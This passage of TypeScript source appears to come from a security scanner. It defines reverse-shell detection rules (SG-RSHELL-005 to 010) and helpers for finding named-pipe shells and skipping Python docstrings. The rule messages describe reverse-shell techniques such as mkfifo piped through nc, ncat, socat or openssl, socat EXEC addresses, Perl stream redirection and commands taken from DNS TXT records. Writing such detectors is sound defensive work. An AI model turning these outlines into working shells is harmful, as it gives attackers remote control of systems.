            line: fileLineOf(seg, start),
            evidence: evidenceAround(seg.text, at, at + Math.min(lines[start].length, 200)),
            depth: seg.depth,
          };
        }
      }
      for (const t of targets(stages[k], REDIRECT_OUT)) if (fifos.has(t)) written.add(t);
    }
  }
  return null;
}

function fifoShells(segments: Segment[]): RawHit[] {
  const out: RawHit[] = [];
  for (const seg of segments) {
    if (seg.kind !== 'decoded' && (seg.kind !== 'code' || (seg.lang !== 'shell' && seg.lang !== 'other')))
      continue;
    if (!testSegment(FIFO_MADE, seg) || !testSegment(NET_CLIENT, seg) || !testSegment(SHELL_ON_STDIN, seg))
      continue;
    const hit = fifoLoop(seg);
    if (hit) out.push(hit);
  }
  return out;
}

/**
 * Python docstrings: a triple-quoted string opening a line right under a `def` / `class` header (or
 * any line ending in `:`) or at the top of the module. Prose about the code ("queries through the system
 * (internal) resolver"), never run, unless the script reads `__doc__`.
 */
const DOCSTRING_OPEN = /^[ \t]{0,40}[rRuU]?("""|''')/gm;
const MAX_DOCSTRINGS = 500;
const docstrings = new WeakMap<Segment, [number, number][]>();

function inDocstring(seg: Segment, at: number): boolean {
  let spans = docstrings.get(seg);
  if (!spans) docstrings.set(seg, (spans = docstringSpans(seg.text)));
  // Spans are in order: the last one opening at or before `at` is the only one that can hold it.
  let lo = 0;
  let hi = spans.length - 1;
  while (lo <= hi) {
    const mid = (lo + hi) >> 1;
    if (spans[mid][0] <= at) lo = mid + 1;
    else hi = mid - 1;
  }
  return hi >= 0 && at < spans[hi][1];
}

function docstringSpans(text: string): [number, number][] {
  const spans: [number, number][] = [];
  if (text.includes('__doc__')) return spans;
  DOCSTRING_OPEN.lastIndex = 0;
  let m: RegExpExecArray | null;
  while (spans.length < MAX_DOCSTRINGS && (m = DOCSTRING_OPEN.exec(text)) !== null) {
    const open = m.index + m[0].length;
    const close = text.indexOf(m[1], open);
    const end = close === -1 ? text.length : close + 3;
    if (docstringPlace(text, m.index)) spans.push([open, end]);
    DOCSTRING_OPEN.lastIndex = end;
  }
  return spans;
}

/** The code before a line start ends a block header (`def f():`), or there is none (comments, blank lines). */
function docstringPlace(text: string, lineStart: number): boolean {
  let k = lineStart - 1;
  for (let lines = 0; lines < 40; lines++) {
    if (k < 0) return true;
    const from = text.lastIndexOf('\n', k - 1) + 1;
    const line = text.slice(from, k).trim();
    if (line !== '' && !line.startsWith('#')) return /:\s*(?:#.*)?$/.test(line.slice(-300));
    k = from - 1;
  }
  return false;
}

export const REVERSE_SHELL_RULES: AnyRule[] = [
  ...PATTERNS,
  {
    type: 'custom',
    id: 'SG-RSHELL-005',
    family: 'reverse-shell',
    severity: 'CRITICAL',
    message: 'Runs commands read from a network socket (remote control channel)',
    remediation: REMEDIATION,
    check: ({ segments }) => [
      ...sinkWithSources(
        segments,
        ['python', 'js', 'go', 'ruby', 'other'],
        [SOCKET_OPEN, SOCKET_READ],
        RUN_COMMAND_VARIABLE,
        (_, seg, at) => seg.lang !== 'python' || !inDocstring(seg, at),
      ),
      ...sinkWithSources(
        segments,
        ['shell', 'other'],
        [PS_SOCKET, PS_READ],
        PS_RUN_VARIABLE,
        psRunsReadText(),
      ),
      ...sinkWithSources(segments, ['other'], [LUV_TCP], LUV_RUN_READ),
      ...sinkWithSources(segments, ['other', 'shell'], [PERL_CLIENT_SOCKET, PERL_READ], PERL_RUN_VARIABLE),
    ],
  },
  {
    type: 'custom',
    id: 'SG-RSHELL-007',
    family: 'reverse-shell',
    severity: 'CRITICAL',
    message: "A child process's standard streams bridged to an outbound connection (reverse shell)",
    remediation: REMEDIATION,
    check: ({ segments }) => [
      ...sinkWithSources(segments, ['go', 'other'], [SPAWN_PROCESS, SOCKET_OPEN], STREAMS_ON_ONE_VARIABLE),
      ...sinkWithSources(segments, ['ruby', 'other'], [PTY_SPAWN, SOCKET_OPEN], STREAM_PUMP),
      ...sinkWithSources(segments, ['other'], [LUV_TCP, LUV_SPAWN_STDIO], LUV_PUMP, luvPumpsIntoChild),
      ...pySocketStdio(segments),
    ],
  },
  {
    type: 'custom',
    id: 'SG-RSHELL-006',
    family: 'reverse-shell',
    severity: 'CRITICAL',
    message: "Standard streams re-opened onto a socket, then a shell exec'd (Perl reverse shell)",
    remediation: REMEDIATION,
    check: ({ segments }) =>
      sinkWithSources(segments, ['other', 'shell'], [PERL_STD_DUP, PERL_SOCKET_CONNECT], PERL_EXEC_SHELL),
  },
  {
    type: 'custom',
    id: 'SG-RSHELL-008',
    family: 'reverse-shell',
    severity: 'CRITICAL',
    message:
      'socat joins a shell (EXEC:/SYSTEM: address) to a network connection, with the addresses kept in variables (reverse or bind shell)',
    remediation: REMEDIATION,
    check: ({ segments }) =>
      sinkWithSources(
        segments,
        ['shell', 'other'],
        [SOCAT_SHELL_ADDRESS, SOCAT_NET_ADDRESS],
        SOCAT_VARIABLE_CALL,
      ),
  },
  {
    type: 'custom',
    id: 'SG-RSHELL-009',
    family: 'reverse-shell',
    severity: 'CRITICAL',
    message:
      'Runs commands received in DNS TXT records (DNS command channel: whoever controls the zone runs code here)',
    remediation: REMEDIATION,
    check: ({ segments }) => [
      ...sinkWithSources(segments, ['shell', 'other'], [DNS_TXT_LOOKUP], DNS_TXT_TO_SHELL),
      ...sinkWithSources(segments, ['shell', 'other'], [DNS_TXT_LOOKUP], PS_RUN_VARIABLE),
      ...sinkWithSources(segments, ['shell', 'other'], [DNS_TXT_LOOKUP], PS_PIPE_IEX),
      ...sinkWithSources(segments, ['python', 'js', 'go', 'ruby'], [DNS_TXT_LOOKUP], RUN_COMMAND_VARIABLE),
      ...sinkWithSources(segments, ['python', 'js', 'ruby'], [DNS_TXT_LOOKUP], EVAL_VARIABLE),
    ],
  },
  {
    type: 'custom',
    id: 'SG-RSHELL-010',
    family: 'reverse-shell',
    severity: 'CRITICAL',
    message:
      'A shell wired to a network client through a named pipe (mkfifo; shell <fifo | openssl s_client / ncat / nc / socat >fifo): a reverse shell, however its pieces are split over functions or variables',
    remediation: REMEDIATION,
    check: ({ segments }) => fifoShells(segments),
  },
];
